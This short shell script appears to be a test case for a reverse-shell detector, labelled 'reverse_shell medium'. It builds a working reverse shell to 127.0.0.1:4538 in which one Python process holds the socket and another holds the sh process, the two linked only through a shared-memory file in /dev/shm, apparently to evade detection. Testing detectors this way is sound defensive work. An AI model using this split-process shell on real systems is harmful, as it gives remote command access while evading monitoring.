# about: the holder of the connection and the holder of the shell share a piece of memory, nothing else
# expect: reverse_shell medium
# needs: python3
proven 4538
cat >m.py <<'P'
import mmap,time
f=open("/dev/shm/s","r+b"); m=mmap.mmap(f.fileno(),65536)
def put(at,b): m[at+1:at+3]=len(b).to_bytes(2,"big"); m[at+3:at+3+len(b)]=b; m[at]=1
def get(at):
    while not m[at]: time.sleep(.02)
    n=int.from_bytes(m[at+1:at+3],"big"); b=m[at+3:at+3+n]; m[at]=0; return b
P
head -c 65536 /dev/zero >/dev/shm/s
setsid timeout 6 python3 -c 'import subprocess; exec(open("m.py").read())
p=subprocess.Popen(["sh"],stdin=-1,stdout=-1,stderr=-2,bufsize=0)
while True:
    p.stdin.write(get(0)); put(32768,p.stdout.read(4096))' &
sleep 0.3
setsid timeout 6 python3 -c 'import socket; exec(open("m.py").read())
s=socket.create_connection(("127.0.0.1",4538))
while d:=s.recv(4096): put(0,d); s.sendall(get(32768))' || true
answered; R=$?; rm /dev/shm/s; (exit $R)
